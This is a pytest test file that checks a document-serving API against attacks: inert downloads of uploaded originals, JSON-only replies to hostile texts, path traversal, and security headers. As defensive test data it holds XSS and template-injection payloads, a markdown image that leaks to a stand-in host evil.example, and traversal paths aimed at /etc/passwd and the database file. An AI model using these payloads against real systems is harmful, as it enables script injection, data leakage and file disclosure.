"""Attacks on whoever opens what is served: originals, names and texts are inert, addresses lead nowhere else."""

import re

import httpx
import pytest

from tests.server_process import ServerProcess
from tests.system.attacks.hostile_client import final_documents, head, require_problem, send_raw, status_of

SCRIPT = "<script>alert(1)</script>"
HOSTILE_TEXTS = (
    f'"><img src=x onerror=alert(1)>{SCRIPT}',
    "[click](javascript:alert(1)) ![x](http://evil.example/?leak=1)",
    "[reference]\n\n[reference]: http://evil.example/",
    "{{constructor.constructor('alert(1)')()}} ${7*7}",
)
TRAVERSALS = (
    "documents/../../../../etc/passwd/file",
    "documents/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd/file",
    "documents/..%5c..%5cetc%5cpasswd/file",
    "documents/%00/file",
    "documents/%ff%fe/file",
    "documents/lock/file",
    "documents/..%252f..%252fperplex.db/file",
    "collections/../../perplex.db/documents",
    "documents/%2e%2e/pages/1/image",
)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.html", f"<html><body><p>words</p>{SCRIPT}</body></html>"),
        ("a.svg", f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'),
        ("a.xhtml", f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{SCRIPT}</body></html>'),
        ("a.pdf", "%PDF-1.7 /JavaScript"),
    ],
)
def test_a33_originals_are_attachments_that_cannot_run(server: ServerProcess, name: str, content: str) -> None:
    document_id = server.upload((name, content.encode()))["documents"][0]["id"]
    for headers in ({}, {"Range": "bytes=0-3"}, {"Accept": "text/html"}):
        download = httpx.get(f"{server.url}/api/v1/documents/{document_id}/file", headers=headers, timeout=60)
        assert download.headers["content-type"] == "application/octet-stream"
        assert download.headers["content-disposition"].startswith("attachment;")
        assert download.headers["x-content-type-options"] == "nosniff"
        assert download.headers["content-security-policy"] == "sandbox; default-src 'none'"


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_a34_texts_that_are_programs_come_back_as_json_and_nothing_else(server: ServerProcess, text: str) -> None:
    found = final_documents(server, {"a.txt": f"The harbour master keeps the words {text} in a drawer.".encode()})
    path = f"{server.url}/api/v1/documents/{found['a.txt']['id']}"
    changes = {"name": text, "tags": [text.replace("\n", " ")[:100]], "metadata": {text: text}}
    answers = [
        httpx.patch(path, json=changes, timeout=60),
        httpx.get(path, timeout=60),
        httpx.get(f"{path}/pages/1", timeout=60),
        httpx.get(f"{path}/{SCRIPT}", timeout=60),
        httpx.post(f"{server.url}/api/v1/collections", json={"name": text.replace("\n", " ")}, timeout=60),
        httpx.post(f"{server.url}/api/v1/search", json={"query": "words", SCRIPT: 1}, timeout=60),
        httpx.post(f"{server.url}/api/v1/search", json={"query": f"words {text}"}, timeout=30),
        httpx.post(f"{server.url}/api/v1/answers", json={"question": "Who keeps the words in a drawer?"}, timeout=30),
    ]
    for answer in answers[-2:]:
        assert answer.status_code == 200, answer.text
        assert "The harbour master keeps the words" in answer.text
    for answer in answers:
        assert answer.status_code < 500
        assert answer.headers["content-type"] in ("application/json", "application/problem+json")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "default-src 'none'" in answer.headers["content-security-policy"]


@pytest.mark.parametrize("path", TRAVERSALS)
def test_a35_paths_in_addresses_reach_no_file(server: ServerProcess, path: str) -> None:
    answer = send_raw(server, head(server, f"GET /api/v1/{path}"))
    assert status_of(answer) in (400, 404)
    assert b"root:" not in answer
    assert b"SQLite format" not in answer
    assert str(server.data).encode() not in answer


def test_a36_the_reference_page_runs_no_script_and_loads_nothing(server: ServerProcess) -> None:
    page = httpx.get(f"{server.url}/schema", timeout=60)
    assert page.status_code == 200
    assert "unsafe" not in page.headers["content-security-policy"]
    assert "<script" not in page.text
    assert re.findall(r'(?:src|href|action)="(?:https?:)?//[^"]*', page.text) == []


@pytest.mark.parametrize(
    ("method", "path", "status"),
    [("GET", "/health", 200), ("GET", "/nowhere", 404), ("PUT", "/health", 405), ("POST", "/api/v1/search", 400)],
)
def test_a37_every_answer_is_armoured(server: ServerProcess, method: str, path: str, status: int) -> None:
    answer = httpx.request(method, f"{server.url}{path}", timeout=60)
    if status != 200:
        require_problem(answer, status)
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["x-frame-options"] == "DENY"
    assert answer.headers["referrer-policy"] == "no-referrer"
    assert answer.headers["cross-origin-resource-policy"] == "same-origin"
    assert "unsafe" not in answer.headers["content-security-policy"]
    assert answer.headers["cache-control"] == "no-store"
    assert "set-cookie" not in answer.headers
